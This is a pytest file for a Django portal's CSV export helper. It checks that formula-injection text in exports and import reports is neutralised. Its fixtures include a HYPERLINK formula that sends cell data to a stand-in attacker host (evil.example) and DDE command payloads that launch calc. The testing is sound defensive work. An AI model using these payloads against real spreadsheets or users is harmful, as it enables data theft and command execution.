"""CSV exports never hand a spreadsheet a formula (portal/core/exports.py): every export and
stored report writes through `csv_writer`, which neutralises text cells starting with = + - @
tab or CR and leaves numbers, and text that is a plain number, readable."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.services import credits
from messaging.review import services as review
from messaging.senders import services as registry
from messaging.suppressions import importers
from messaging.suppressions.models import ImportJob, ImportKind
from portal.core.exports import safe_cell
from tests.contacts.import_helpers import csv_upload, run_upload

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parent.parent
PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
IN_A_FILE = "=cmd|'/C calc'!A0"  # no comma: it travels as one cell of an uploaded CSV


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-12.50", "-12.50"),
        ("+447400123456", "+447400123456"),
        ("-.5", "-.5"),
        ("plain text = fine", "plain text = fine"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, ""),
        (True, "True"),
    ],
)
def test_a_cell_is_neutralised_unless_it_is_a_number(value, written):
    assert safe_cell(value) == written


def _rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def test_the_template_export_neutralises_customer_text(user_client, account):
    sender = registry.create_sender(account=account, data={"name": "AcmeUK", "service": "G", "country_code": "GB"})
    review.approve(item=sender)
    registry.create_template(
        account=account,
        data={
            "sender": "AcmeUK",
            "name": "@promo",
            "type": "T",
            "template_id": "1107161521283350001",
            "body": PAYLOAD + " {#var#}",
        },
    )
    rows = _rows(user_client.get(reverse("senders:template_export")))
    assert rows[1][0] == "'@promo" and rows[1][5].startswith("'" + PAYLOAD)


def test_the_ledger_export_keeps_amounts_and_neutralises_reasons(user_client, account, owner):
    credits.debit(account=account, amount=Decimal("12.50"), reason="-1+1|cmd")
    rows = _rows(user_client.get(reverse("accounts:ledger_list"), {"format": "csv"}))
    debit = next(r for r in rows[1:] if r[1] == "debit")
    assert debit[2] == "-12.5000" and debit[4] == "'-1+1|cmd"


def test_the_contact_import_report_neutralises_rejected_values(
    user_client, account, django_capture_on_commit_callbacks
):
    upload = csv_upload(f"phone,first_name\n447400123456,Ann\nnot-a-number,{IN_A_FILE}\n")
    job = run_upload(account, upload, capture=django_capture_on_commit_callbacks)
    rows = _rows(user_client.get(reverse("contact_imports:import_report", args=[job.pk])))
    assert rows[1][3:] == ["not-a-number", "'" + IN_A_FILE]


def test_the_stored_suppression_import_report_neutralises_rejected_values(account):
    content = f"447400123456\n{IN_A_FILE}1\n".encode()
    importers.check_upload(SimpleUploadedFile("l.csv", content))
    job = importers.create_job(account=account, kind=ImportKind.UNSUBSCRIBERS, content=content, filename="l.csv")
    importers.run(job.pk)
    job = ImportJob.objects.get(pk=job.pk)
    with job.report.open("rb") as handle:
        rows = list(csv.reader(io.StringIO(handle.read().decode())))
    assert rows[1][:2] == ["2", "'" + IN_A_FILE + "1"]


def test_no_code_writes_csv_or_workbooks_past_the_helper():
    allowed = {ROOT / "portal" / "core" / "exports.py"}
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(|\bWorkbook\(\)|xlsxwriter")
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("accounts", "contacts", "messaging", "portal", "voice")
        for path in (ROOT / package).rglob("*.py")
        if path not in allowed and "migrations" not in path.parts and pattern.search(path.read_text())
    ]
    assert offenders == []
